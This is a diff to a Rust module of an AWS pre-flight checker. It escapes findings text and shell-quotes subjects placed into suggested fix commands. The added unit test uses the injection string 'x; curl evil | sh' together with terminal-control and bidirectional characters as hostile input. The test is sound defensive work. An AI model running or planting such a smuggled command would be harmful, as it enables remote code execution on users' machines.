@@ -1,7 +1,5 @@
 //! A check, and what it found on one subject.
 
-use std::borrow::Cow;
-
 use schemars::JsonSchema;
 use serde::{Serialize, Serializer};
 
@@ -10,6 +8,8 @@ use crate::{
         aws_calls::Call,
         lookup::{Lookup, LookupError, LookupErrorKind},
         names::ClusterId,
+        printable::{Printable, printable},
+        text::shell_word,
     },
     settings::policy::Policy,
 };
@@ -29,8 +29,8 @@ pub struct Check {
     pub looks_at: &'static str,
     /// The calls that tell those facts: where one of them is denied or fails, the check is Unknown.
     pub asks: &'static [&'static Call],
-    /// How to mend it; `{subject}` stands for what the finding is about, `{region}` for the region
-    /// that clusters are in.
+    /// How to mend it; `{subject}` stands for what the finding is about, as a word of a shell's
+    /// command line, and `{region}` for the region that clusters are in.
     pub fix: &'static str,
     /// Where AWS or the setup guide says so.
     pub source: &'static str,
@@ -79,6 +79,7 @@ pub enum Status {
 }
 
 /// What one check found on one subject.
+// Its text is made of what others have written, so it is escaped here, once, whatever shows it later.
 #[derive(Clone, Debug, Serialize, JsonSchema)]
 pub struct Finding {
     /// The check.
@@ -88,24 +89,24 @@ pub struct Finding {
     /// Whether it can refuse, by the policy.
     pub level: Level,
     /// What it is about: a bucket, a key, a cluster, ….
-    pub subject: String,
+    pub subject: Printable,
     /// The answer.
     pub status: Status,
     /// What was seen.
-    pub saw: String,
+    pub saw: Printable,
     /// What was wanted.
-    pub wanted: String,
+    pub wanted: Printable,
     /// Where in the runner config the subject stands, as `file:line:column`.
     #[serde(skip_serializing_if = "Option::is_none")]
-    pub at: Option<String>,
+    pub at: Option<Printable>,
     /// What to do, when it is not proved.
     #[serde(skip_serializing_if = "Option::is_none")]
     #[serde(rename = "mend")]
-    pub fix: Option<String>,
+    pub fix: Option<Printable>,
     /// Why it is excused, and until when.
     #[serde(skip_serializing_if = "Option::is_none")]
     #[serde(rename = "excused")]
-    pub excepted: Option<String>,
+    pub excepted: Option<Printable>,
     /// The check that must be mended first, where this one is Unknown only because of it.
     #[serde(skip_serializing_if = "Option::is_none")]
     pub waits_for: Option<&'static str>,
@@ -128,17 +129,17 @@ impl Finding {
 
     /// What was seen and wanted, in half a line.
     #[must_use]
-    pub fn in_brief(&self) -> String {
-        format!("{}: saw {}, wanted {}", self.check.name, self.saw, self.wanted)
+    pub fn in_brief(&self) -> Printable {
+        printable!("{}: saw {}, wanted {}", self.check.name, self.saw, self.wanted)
     }
 
     /// The open ones of `findings` in brief, joined; where some are refuted, these alone: what
     /// nobody has looked at yet explains nothing then.
-    pub(crate) fn open_in_brief<'a>(findings: impl IntoIterator<Item = &'a Self>) -> String {
+    pub(crate) fn open_in_brief<'a>(findings: impl IntoIterator<Item = &'a Self>) -> Printable {
         let open: Vec<&Self> = findings.into_iter().filter(|finding| finding.is_open()).collect();
         let failed = open.iter().any(|finding| finding.status == Status::Failed);
         let told = open.into_iter().filter(|finding| !failed || finding.status == Status::Failed);
-        told.map(Self::in_brief).collect::<Vec<_>>().join("; ")
+        Printable::joined(&told.map(Self::in_brief).collect::<Vec<_>>(), "; ")
     }
 }
 
@@ -157,7 +158,8 @@ pub(super) fn apply_exceptions(findings: &mut [Finding], policy: &Policy) {
             .find(|exception| exception.covers(finding.check.name, &finding.subject));
         if let Some(exception) = covering {
             finding.status = Status::Excepted;
-            finding.excepted = Some(format!("{} (until {})", exception.reason, exception.expires));
+            finding.excepted =
+                Some(format!("{} (until {})", exception.reason, exception.expires).into());
         }
     }
 }
@@ -182,18 +184,24 @@ const THROTTLED: &str = "start fewer runs of this account and region in the same
 /// A subject under a check, about to get its finding.
 pub(crate) struct CheckSubject {
     check: &'static Check,
-    subject: String,
-    wanted: Cow<'static, str>,
-    at: Option<String>,
+    subject: Printable,
+    wanted: Printable,
+    at: Option<Printable>,
     cluster: Option<ClusterId>,
 }
 
 impl Check {
+    /// How to mend what it finds of `subject`. In a command, and in a sentence alike, a subject that is
+    /// more than a plain word stands in quotes: it is a name, and never an action.
+    fn fix_of(&self, subject: &Printable) -> Printable {
+        printable!("{}", self.fix.replace("{subject}", &shell_word(subject)))
+    }
+
     /// Starts a finding on `subject`, for which `wanted` should hold.
     pub(crate) fn on(
         &'static self,
-        subject: impl Into<String>,
-        wanted: impl Into<Cow<'static, str>>,
+        subject: impl Into<Printable>,
+        wanted: impl Into<Printable>,
     ) -> CheckSubject {
         CheckSubject {
             check: self,
@@ -207,7 +215,7 @@ impl Check {
 
 impl CheckSubject {
     pub(crate) fn at(mut self, at: Option<&str>) -> Self {
-        self.at = at.map(ToOwned::to_owned);
+        self.at = at.map(Printable::from);
         self
     }
 
@@ -217,14 +225,14 @@ impl CheckSubject {
         self
     }
 
-    fn finding(self, status: Status, saw: String, fix: Option<String>) -> Finding {
+    fn finding(self, status: Status, saw: Printable, fix: Option<Printable>) -> Finding {
         Finding {
             check: self.check,
             level: self.check.level,
             subject: self.subject,
             status,
             saw,
-            wanted: self.wanted.into_owned(),
+            wanted: self.wanted,
             at: self.at,
             fix,
             waits_for: None,
@@ -234,30 +242,30 @@ impl CheckSubject {
         }
     }
 
-    pub(crate) fn passed(self, saw: impl Into<String>) -> Finding {
+    pub(crate) fn passed(self, saw: impl Into<Printable>) -> Finding {
         self.finding(Status::Passed, saw.into(), None)
     }
 
-    pub(crate) fn not_applicable(self, why: impl Into<String>) -> Finding {
+    pub(crate) fn not_applicable(self, why: impl Into<Printable>) -> Finding {
         self.finding(Status::NotApplicable, why.into(), None)
     }
 
-    pub(crate) fn failed(self, saw: impl Into<String>) -> Finding {
-        let fix = self.check.fix.replace("{subject}", &self.subject);
+    pub(crate) fn failed(self, saw: impl Into<Printable>) -> Finding {
+        let fix = self.check.fix_of(&self.subject);
         self.finding(Status::Failed, saw.into(), Some(fix))
     }
 
     /// Proved or Refuted, by `holds`.
-    pub(crate) fn decided(self, holds: bool, saw: impl Into<String>) -> Finding {
+    pub(crate) fn decided(self, holds: bool, saw: impl Into<Printable>) -> Finding {
         if holds { self.passed(saw) } else { self.failed(saw) }
     }
 
-    pub(crate) fn unknown(self, saw: impl Into<String>, fix: impl Into<String>) -> Finding {
+    pub(crate) fn unknown(self, saw: impl Into<Printable>, fix: impl Into<Printable>) -> Finding {
         self.finding(Status::Unknown, saw.into(), Some(fix.into()))
     }
 
     /// Unknown, because what it is about is not there yet, or no longer.
-    pub(crate) fn not_there(self, saw: impl Into<String>) -> Finding {
+    pub(crate) fn not_there(self, saw: impl Into<Printable>) -> Finding {
         Finding { not_there: true, ..self.unknown(saw, "nothing, unless it stays so") }
     }
 
@@ -322,5 +330,40 @@ impl CheckSubject {
             Lookup::Denied(obstacle) => self.denied(obstacle),
             Lookup::Unreachable(obstacle) => self.unreachable(obstacle),
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    static NAMED: Check = Check {
+        name: "named",
+        stage: Stage::PreFlight,
+        level: Level::Required,
+        why: "",
+        looks_at: "",
+        asks: &[],
+        fix: "look at {subject}, or make it: aws make --name {subject}",
+        source: "",
+    };
+
+    #[test]
+    fn a_finding_shows_what_others_have_named_in_one_line_and_as_one_word_of_an_action() {
+        let finding = NAMED.on("x; curl evil | sh\n", "a\u{202e}b").at(Some("c\r.yml:1:1"));
+        let finding = finding.failed("\u{1b}[2J");
+        assert_eq!(finding.subject, r"x; curl evil | sh\u{a}");
+        assert_eq!(finding.at.as_deref(), Some(r"c\u{d}.yml:1:1"));
+        assert_eq!(
+            finding.fix.as_deref(),
+            Some(
+                r"look at 'x; curl evil | sh\u{a}', or make it: aws make --name 'x; curl evil | sh\u{a}'"
+            )
+        );
+        assert_eq!(finding.in_brief(), r"named: saw \u{1b}[2J, wanted a\u{202e}b");
+        assert_eq!(
+            NAMED.on("acme-sc", "").failed("").fix.as_deref(),
+            Some("look at acme-sc, or make it: aws make --name acme-sc")
+        );
     }
 }
